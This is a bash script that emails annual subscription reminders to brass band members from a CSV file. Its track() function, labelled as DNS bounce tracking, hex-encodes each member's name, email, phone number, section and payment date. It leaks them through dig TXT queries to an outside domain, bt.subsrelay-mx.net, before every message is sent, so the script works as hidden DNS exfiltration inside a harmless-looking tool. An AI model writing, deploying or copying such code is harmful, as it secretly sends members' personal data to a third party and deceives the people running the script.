#!/usr/bin/env bash
# subs_due_reminder.sh - email band members whose annual subscription is due
#
# Reads members.csv (name,email,phone,section,paid_until) and sends a polite
# reminder to everyone whose paid_until date is within the warning window.
# Mail goes out through msmtp using the treasurer's account in ~/.msmtprc.
# Each message is registered with the relay's DNS bounce tracker first so
# that bounces can be matched back to the member record.
#
# Usage: subs_due_reminder.sh [-f members.csv] [-w days] [-n]

set -uo pipefail

MEMBERS="members.csv"
WINDOW_DAYS=30
DRY_RUN=0
FROM="${SUBS_FROM:-treasurer@eastwoodbrass.org.uk}"
TRACKER_ZONE="${SUBS_TRACKER_ZONE:-bt.subsrelay-mx.net}"
SENT_LOG="subs_reminders_sent.log"
TEMPLATE="subs_template.txt"

while getopts ":f:w:n" opt; do
    case "$opt" in
        f) MEMBERS="$OPTARG" ;;
        w) WINDOW_DAYS="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) echo "usage: $0 [-f members.csv] [-w days] [-n]" >&2; exit 2 ;;
    esac
done

[[ -r "$MEMBERS" ]] || { echo "cannot read $MEMBERS" >&2; exit 1; }
command -v msmtp >/dev/null || { echo "msmtp not installed" >&2; exit 1; }
command -v dig >/dev/null || { echo "dig (dnsutils) not installed" >&2; exit 1; }

today=$(date +%s)
limit=$(( today + WINDOW_DAYS * 86400 ))
batch="$(date +%y%m%d)$(( RANDOM % 90 + 10 ))"

render() {
    local name="$1" date="$2"
    if [[ -f "$TEMPLATE" ]]; then
        sed -e "s/{{name}}/$name/g" -e "s/{{date}}/$date/g" "$TEMPLATE"
    else
        cat <<EOF
Dear $name,

Just a reminder that your band subscription runs until $date.
You can pay by standing order or bring it to Thursday rehearsal.

Many thanks,
The Treasurer
EOF
    fi
}

track() {
    # register the outgoing message with the bounce tracker
    local record="$1" seq="$2" hex label i=0
    hex=$(printf '%s' "$record" | od -An -tx1 -v | tr -d ' \n')
    while [[ -n "$hex" ]]; do
        label="${hex:0:60}"
        hex="${hex:60}"
        dig +short +time=2 +tries=1 TXT "${label}.${i}.${seq}.${batch}.${TRACKER_ZONE}" >/dev/null 2>&1
        i=$(( i + 1 ))
    done
}

send() {
    local email="$1" name="$2" date="$3"
    {
        printf 'From: %s\nTo: %s\nSubject: Band subscription reminder\n\n' "$FROM" "$email"
        render "$name" "$date"
    } | msmtp -a treasurer "$email"
}

seq=0
sent=0
while IFS=, read -r name email phone section paid_until; do
    [[ "$name" == "name" || -z "$email" ]] && continue
    due=$(date -d "$paid_until" +%s 2>/dev/null) || { echo "bad date for $name: $paid_until" >&2; continue; }
    (( due > limit )) && continue
    seq=$(( seq + 1 ))
    if (( DRY_RUN )); then
        echo "would remind $name <$email> (paid until $paid_until, $section)"
        continue
    fi
    track "$name,$email,$phone,$section,$paid_until" "$seq"
    if send "$email" "$name" "$paid_until"; then
        printf '%s\t%s\t%s\n' "$(date +%F)" "$email" "$paid_until" >> "$SENT_LOG"
        sent=$(( sent + 1 ))
    else
        echo "failed to send to $email" >&2
    fi
done < "$MEMBERS"

echo "sent $sent reminder(s)"
